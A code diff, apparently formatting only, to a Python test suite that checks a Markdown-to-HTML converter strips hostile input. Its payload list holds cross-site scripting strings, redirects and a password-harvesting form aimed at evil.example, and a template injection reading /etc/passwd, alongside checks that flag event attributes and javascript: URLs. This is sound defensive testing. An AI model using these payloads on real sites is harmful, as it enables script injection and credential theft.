@@ -18,12 +18,93 @@ from plugins.markdown_reader import html
 from tests import editors, portals
 
 # what a body may hold; stricter than html.py's own table, from which the page must not depend
-ALLOWED = (
-    {"a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "footer", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "wbr"}
-)
-ATTRIBUTES = (
-    {"alt", "aria-label", "class", "colspan", "datetime", "dir", "headers", "href", "hreflang", "id", "lang", "reversed", "role", "rowspan", "scope", "span", "src", "start", "tabindex", "title"}
-)
+ALLOWED = {
+    "a",
+    "abbr",
+    "b",
+    "bdi",
+    "bdo",
+    "blockquote",
+    "br",
+    "caption",
+    "cite",
+    "code",
+    "col",
+    "colgroup",
+    "dd",
+    "del",
+    "details",
+    "dfn",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "figcaption",
+    "figure",
+    "footer",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "img",
+    "ins",
+    "kbd",
+    "li",
+    "mark",
+    "ol",
+    "p",
+    "pre",
+    "q",
+    "rp",
+    "rt",
+    "ruby",
+    "s",
+    "samp",
+    "section",
+    "small",
+    "span",
+    "strong",
+    "sub",
+    "summary",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "time",
+    "tr",
+    "u",
+    "ul",
+    "var",
+    "wbr",
+}
+ATTRIBUTES = {
+    "alt",
+    "aria-label",
+    "class",
+    "colspan",
+    "datetime",
+    "dir",
+    "headers",
+    "href",
+    "hreflang",
+    "id",
+    "lang",
+    "reversed",
+    "role",
+    "rowspan",
+    "scope",
+    "span",
+    "src",
+    "start",
+    "tabindex",
+    "title",
+}
 CLASSES = {"scroll", "footnote", "footnote-ref", "footnote-backref", "right", "center"}
 SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.I)
 
@@ -72,13 +153,15 @@ PAYLOADS = [
     '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     '<base href="https://evil.example/">',
     '<form action="https://evil.example"><input name="matkhau" type="password"><button>Gửi</button></form>',
-    '<textarea><img src=x onerror=alert(1)></textarea>',
+    "<textarea><img src=x onerror=alert(1)></textarea>",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     '<title><p id="</title><img src=x onerror=alert(1)>"></title>',
-    '<template><img src=x onerror=alert(1)></template>',
+    "<template><img src=x onerror=alert(1)></template>",
     "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
     "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<x onclick=alert(1)>x</x>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x onclick=alert(1)>x</x>",
     '<div style="background:url(javascript:alert(1))">x</div>',
     '<div class="tools skip" id="noi-dung" role="alert" tabindex="7">x</div>',
     "## x {: onclick=alert(1) style=color:red #bao .tools }",
@@ -86,18 +169,26 @@ PAYLOADS = [
     "[x](https://x.example){: onclick=alert(1) target=_blank href=javascript:alert(1) }",
     "chữ\n{: onclick=alert(1) }",
     '<div markdown="1" onclick="alert(1)">\n\n<script>alert(1)</script>\n\n</div>',
-    "*[x]: \" onclick=alert(1)\n\nx",
+    '*[x]: " onclick=alert(1)\n\nx',
     "[^x]\n\n[^x]: <script>alert(1)</script>",
     "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | 2 |",
     "Bảng: <script>alert(1)</script>\n\n| a | b |\n|--|--|\n| 1 | 2 |",
-    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```\n<script>alert(1)</script>\n```",
-    "``` {: onclick=alert(1) .tools #bao }\n</code></pre><script>alert(1)</script>\n```", '~~~ "><img src=x onerror=alert(1)>\nx\n~~~',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "```\n<script>alert(1)</script>\n```",
+    "``` {: onclick=alert(1) .tools #bao }\n</code></pre><script>alert(1)</script>\n```",
+    '~~~ "><img src=x onerror=alert(1)>\nx\n~~~',
     "<pre onclick=alert(1) tabindex=7 class=tools><script>alert(1)</script></pre>",
     "<p>Bảng 1. \"><img src=x onerror=alert(1)> ' \" {static}</p><table onclick=alert(1)><tr><th title='\"><script>'>&lt;script&gt;</th></tr></table>",
-    "<table><caption>\" onclick=alert(1) x=\" ' &lt;img src=x onerror=alert(1)&gt; {{ 7*7 }}</caption><tr><td>x</table>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>",
-    "<!-- <script>alert(1)</script> -->", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php alert(1) ?>", "<% alert(1) %>", "<!DOCTYPE html><html><head><script>alert(1)</script>",
+    '<table><caption>" onclick=alert(1) x=" \' &lt;img src=x onerror=alert(1)&gt; {{ 7*7 }}</caption><tr><td>x</table>',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php alert(1) ?>",
+    "<% alert(1) %>",
+    "<!DOCTYPE html><html><head><script>alert(1)</script>",
     "{{ 7*7 }} {% include '/etc/passwd' %} {{ config }}",
     "</div></article></main><script>alert(1)</script>",
     "\x02wzxhzdk:0\x03<script>alert(1)</script>\x02amp\x03",
@@ -145,15 +236,23 @@ def assert_harmless(body: str) -> None:
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_body_holds_nothing_but_text_and_harmless_elements(payload: str, tmp_path: Path) -> None:
-    for markdown in (payload, f"chữ {payload} chữ", f"> - {payload}", f"## {payload}", f"[{payload}](https://x.example)"):
+    for markdown in (
+        payload,
+        f"chữ {payload} chữ",
+        f"> - {payload}",
+        f"## {payload}",
+        f"[{payload}](https://x.example)",
+    ):
         assert_harmless(html.convert(markdown, str(tmp_path / "a.md"), str(tmp_path), "vi").html)
 
 
-_PIECES = st.sampled_from([*PAYLOADS, *"<>\"'&`*_[](){}!#|:/\\=\n\t -~^", "\n\n", "    ", "<a href=", "onerror=", "{: ", "]: ", "script", "ữ"])
+_PIECES = st.sampled_from(
+    [*PAYLOADS, *"<>\"'&`*_[](){}!#|:/\\=\n\t -~^", "\n\n", "    ", "<a href=", "onerror=", "{: ", "]: ", "script", "ữ"]
+)
 
 
 @given(st.lists(_PIECES | st.text(max_size=5), max_size=12).map("".join))
-@example("<p title=\"<img src=x onerror=alert(1)>\">")
+@example('<p title="<img src=x onerror=alert(1)>">')
 def test_whatever_is_written_the_body_is_harmless(markdown: str) -> None:
     assert_harmless(html.convert(markdown, "/nowhere/content/a.md", "/nowhere/content", "vi").html)
 
@@ -180,7 +279,7 @@ def test_strange_texts_end_in_a_moment(name: str) -> None:
     begun = time.process_time()  # of the processor: other work on the machine does not count
     body = html.convert(SLOW[name], "/nowhere/content/a.md", "/nowhere/content", "vi", 5)
     assert time.process_time() - begun < 5
-    assert body.html or (not body.html and (body.problems or not SLOW[name].strip("<div markown=1\">?!-[CDATA")))  # noqa: B005
+    assert body.html or (not body.html and (body.problems or not SLOW[name].strip('<div markown=1">?!-[CDATA')))  # noqa: B005
 
 
 def test_an_article_after_a_monstrous_one_is_as_it_always_is() -> None:
@@ -199,7 +298,16 @@ def test_an_article_after_a_monstrous_one_is_as_it_always_is() -> None:
     assert html.convert(text, "/nowhere/content/a.md", "/nowhere/content", "vi").html == before
 
 
-@pytest.mark.parametrize("text", ["- a\n    - b\n        - c\n            - d", "> > > a", "(a [b] (c)) " * 5_000, "1 < 2 và a<b " * 1_000, "[x](https://a.vn) " * 5_000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "- a\n    - b\n        - c\n            - d",
+        "> > > a",
+        "(a [b] (c)) " * 5_000,
+        "1 < 2 và a<b " * 1_000,
+        "[x](https://a.vn) " * 5_000,
+    ],
+)
 def test_ordinary_nesting_is_no_error(text: str) -> None:
     assert not html.convert(text, "/nowhere/content/a.md", "/nowhere/content", "vi").problems
 
@@ -230,7 +338,11 @@ def evil_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
         content, "evil.md", f"![{alt}](../../images/a.png '{EVIL.replace(chr(39), '')}')\n\nChữ",
         tags=f"[{quoted}]", authors=f"[{quoted}]", source_url="https://x.example/?q=</script><b>".replace("<", "%3C").replace(">", "%3E"), **keys,
     )  # fmt: skip
-    editors.raw(content, "pages/trang.md", f"---\ntitle: {quoted}\nsummary: {quoted}\n---\n\n{EVIL.replace('<img src=x', '<b')}\n")
+    editors.raw(
+        content,
+        "pages/trang.md",
+        f"---\ntitle: {quoted}\nsummary: {quoted}\n---\n\n{EVIL.replace('<img src=x', '<b')}\n",
+    )
     settings = f"CACHE_PATH = {str(root / 'cache')!r}\nFOOTER_PAGES.append('trang')"
     done = portals.build(root / "output", content, settings=settings, env=editors.ENGLISH)
     assert done.returncode == 0, done.stderr
@@ -254,9 +366,15 @@ def test_no_page_has_a_script_beyond_the_sites_own(evil_site: Path) -> None:
 def test_no_page_has_an_event_attribute_or_a_foreign_address_or_element(evil_site: Path) -> None:
     for address, page in editors.pages(evil_site).items():
         for element in page.find_all(True):
-            assert not [a for a in element.attrs if a.lower().startswith("on") or a in ("style", "srcdoc")], (address, element)
+            assert not [a for a in element.attrs if a.lower().startswith("on") or a in ("style", "srcdoc")], (
+                address,
+                element,
+            )
             for name in ("href", "src", "action", "data"):
-                assert not re.match(r"\s*(javascript|data|vbscript|file|blob):", element.get(name, ""), re.I), (address, element)
+                assert not re.match(r"\s*(javascript|data|vbscript|file|blob):", element.get(name, ""), re.I), (
+                    address,
+                    element,
+                )
         assert not page.find(["iframe", "object", "embed", "base", "style", "math", "textarea", "video"]), address
         ours = page.select('form[action^="/danh-gia?"]')  # an article has one form, the portal's own
         assert len(ours) == ("bai-viet/" in address), address
@@ -294,6 +412,12 @@ def test_ids_of_the_page_cannot_be_taken(evil_site: Path) -> None:
 
 
 def test_a_soup_of_payloads_is_seen_by_the_checks() -> None:
-    for tag, attributes in (("script", ""), ("p", "onclick=x"), ("a", "href=javascript:x"), ("p", "class=tools"), ("p", "id=bao")):
+    for tag, attributes in (
+        ("script", ""),
+        ("p", "onclick=x"),
+        ("a", "href=javascript:x"),
+        ("p", "class=tools"),
+        ("p", "id=bao"),
+    ):
         with pytest.raises(AssertionError):
             assert_harmless(str(BeautifulSoup(f"<{tag} {attributes}>x</{tag}>", "html.parser")))
